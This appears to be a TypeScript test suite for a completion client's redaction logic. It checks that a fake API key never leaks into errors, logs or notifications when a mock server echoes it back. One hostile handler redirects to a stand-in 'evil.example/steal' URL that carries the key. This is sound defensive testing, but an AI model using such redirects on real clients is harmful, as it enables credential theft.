/**
 * The API key appears in no log line, error message, thrown error or notification text — even
 * when the server echoes it back (in an error body, a header dump, a mid-stream error, an HTML
 * title, a redirect Location), in any spelling it may come back in (as is, JSON-escaped,
 * URL-encoded, after "Bearer").
 */
import * as assert from 'node:assert/strict';
import * as util from 'node:util';
import type { ApiError } from '../../../src/core/client/apiError';
import { CompletionOutcome, requestCompletion } from '../../../src/core/client/completionClient';
import { formatRequestLogLine } from '../../../src/core/logging/requestLogLine';
import { outcomeSummary } from '../../../src/core/logging/outcomeSummary';
import { FailureBreaker } from '../../../src/core/reliability/failureBreaker';
import { pauseNotificationText, pauseStatusText } from '../../../src/core/reliability/pauseNotice';
import { RetryNotice, requestWithRetries } from '../../../src/core/reliability/requestWithRetries';
import {
  Handler,
  OpenAiTestServer,
  completionChunk,
  endResponse,
  sendHtml,
  sendJson,
  sendOpenAiError,
  sendRedirect,
  startSse,
  writeRaw,
  writeSseData,
  writeSseError,
  writeSseEvent,
} from '../../support/openAiTestServer';
import { STREAM_BODY } from '../faults/faultSupport';

const KEYS = ['sk-live-LEAK-me-0123456789abcdefABCDEF', 'sk-a.b+c*d?(e)[f]{g}|h^$\\-quote"-slash/-9876543210'];

/** Hostile answers that put the key (from the Authorization header they received) in every place a server can. */
function hostileHandlers(key: string): Array<[string, Handler]> {
  const auth = (h: { authorization?: string }) => h.authorization ?? '';
  return [
    ['401 echoing every header', (req, res) => sendOpenAiError(res, 401, { message: `Bad key ${auth(req.headers)}: ${JSON.stringify(req.headers)}`, type: key, code: key })],
    ['403 with the key URL-encoded and JSON-escaped', (req, res) => sendOpenAiError(res, 403, `k=${encodeURIComponent(key)} j=${JSON.stringify(key)}`)],
    ['429 with the key in the message', (req, res) => sendOpenAiError(res, 429, `quota for ${key} exceeded`, { 'Retry-After': '1' })],
    ['500 plain-text header dump', (req, res) => {
      res.writeHead(500, { 'Content-Type': 'text/plain' });
      res.end(`upstream said: Authorization: ${auth(req.headers)}`);
    }],
    ['502 HTML with the key in the title', (req, res) => sendHtml(res, 502, `<html><head><title>Bad gateway for ${key}</title></head></html>`)],
    ['404 {"detail": key}', (req, res) => sendJson(res, 404, { detail: `no route for ${auth(req.headers)}` })],
    ['200 {"error": key}', (req, res) => sendJson(res, 200, { error: `token ${key} expired` })],
    ['200 HTML page echoing the key', (req, res) => sendHtml(res, 200, `<html><body>Hello ${key}</body></html>`)],
    ['mid-stream {"error"} echoing the key', async (req, res) => {
      await writeSseData(res, completionChunk([{ text: 'x', index: 0, logprobs: null, finish_reason: null }]));
      await writeSseError(res, { message: `revoked ${auth(req.headers)}`, type: key, code: key });
      await endResponse(res);
    }],
    ['mid-stream event: error', async (req, res) => {
      await writeSseEvent(res, 'error', { error: { message: `key ${key}` } });
      await endResponse(res);
    }],
    ['llama.cpp error: line', async (req, res) => {
      startSse(res);
      await writeRaw(res, `error: {"code":500,"message":"bad ${key}","type":"server_error"}\n\n`);
      await endResponse(res);
    }],
    ['stream data that is not JSON and holds the key', async (req, res) => {
      await writeSseData(res, `oops ${key}`);
      await endResponse(res);
    }],
    ['redirect with the key in Location', (req, res) => sendRedirect(res, 302, `https://evil.example/steal?k=${encodeURIComponent(key)}&raw=${key}`)],
  ];
}

function texts(outcome: CompletionOutcome, notices: RetryNotice[], key: string): Array<[string, string]> {
  const out: Array<[string, string]> = [['outcome JSON', JSON.stringify(outcome)], ['outcome inspect', util.inspect(outcome, { depth: 10 })]];
  const facts = (o: CompletionOutcome) => ({
    purpose: 'complete selection',
    host: '127.0.0.1',
    body: STREAM_BODY,
    previewChars: 200,
    status: o.meta.status,
    firstByteMs: o.meta.firstByteMs,
    totalMs: o.meta.totalMs,
    outcome: outcomeSummary(o),
  });
  out.push(['log line', formatRequestLogLine(facts(outcome))]);
  for (const n of notices) out.push([`retry log line #${n.attempt}`, formatRequestLogLine(facts(n.outcome))]);
  if (!outcome.ok) {
    const e: ApiError = outcome.error;
    out.push(['message', e.message], ['String(error)', String(e)], ['stack', e.stack ?? ''], ['own properties', JSON.stringify(e, Object.getOwnPropertyNames(e))]);
    out.push(['notification', `Comet Complete: ${e.message}`]);
    const breaker = new FailureBreaker({ threshold: 1 });
    const trip = breaker.recordFailure(e);
    if (trip) out.push(['pause status', pauseStatusText(trip)], ['pause notification', pauseNotificationText(trip)]);
  }
  void key;
  return out;
}

function assertAbsent(all: Array<[string, string]>, key: string, what: string): void {
  const spellings = [key, JSON.stringify(key).slice(1, -1), encodeURIComponent(key), key.slice(0, 16)];
  for (const [where, text] of all) {
    for (const spelling of spellings) {
      assert.ok(!text.includes(spelling), `${what}: the key (${spelling === key ? 'as is' : 'a spelling of it'}) leaked into ${where}: ${text.slice(0, 400)}`);
    }
  }
}

describe('the API key never leaks', function () {
  let server: OpenAiTestServer;
  beforeEach(async function () {
    server = await OpenAiTestServer.start();
  });
  afterEach(async function () {
    await server.close();
  });

  for (const key of KEYS) {
    describe(`key ${JSON.stringify(key.slice(0, 12))}…`, function () {
      for (const [what, handler] of hostileHandlers(key)) {
        it(`${what}: not in the error, its message, the log lines or the notifications`, async function () {
          server.setDefaultHandler(handler);
          const notices: RetryNotice[] = [];
          let thrown: unknown;
          const outcome = await requestWithRetries(
            { baseUrl: server.baseUrl, apiKey: key, timeoutMs: 3000 },
            STREAM_BODY,
            { onRetry: (n) => notices.push(n) },
            { sleep: async () => true, policy: { maxAttempts: 2 } },
          ).catch((error: unknown) => {
            thrown = error;
            return undefined;
          });
          assert.equal(thrown, undefined, 'requestWithRetries never throws');
          assert.ok(outcome && !outcome.ok, 'the hostile answer is a failure');
          assert.equal((await server.waitForRequest(1)).headers.authorization, `Bearer ${key}`, 'the key was sent (so it could be echoed)');
          assertAbsent(texts(outcome, notices, key), key, what);
        });
      }
    });
  }

  it('a key in the base URL query string is redacted from the URL shown everywhere', async function () {
    const key = KEYS[0];
    server.setDefaultHandler((req, res) => sendOpenAiError(res, 404, 'nope'));
    const outcome = await requestCompletion({ baseUrl: `${server.baseUrl}?api_key=${key}`, apiKey: key, timeoutMs: 3000 }, STREAM_BODY);
    assertAbsent(texts(outcome, [], key), key, 'query string');
  });

  it('a thrown listener (onDelta) does not surface the key either: requestCompletion resolves', async function () {
    const key = KEYS[0];
    const outcome = await requestCompletion({ baseUrl: server.baseUrl, apiKey: key, timeoutMs: 3000 }, STREAM_BODY, {
      onDelta: () => {
        throw new Error(`listener failed with ${key}`);
      },
    });
    assert.ok(outcome.ok);
    assertAbsent(texts(outcome, [], key), key, 'listener');
  });
});
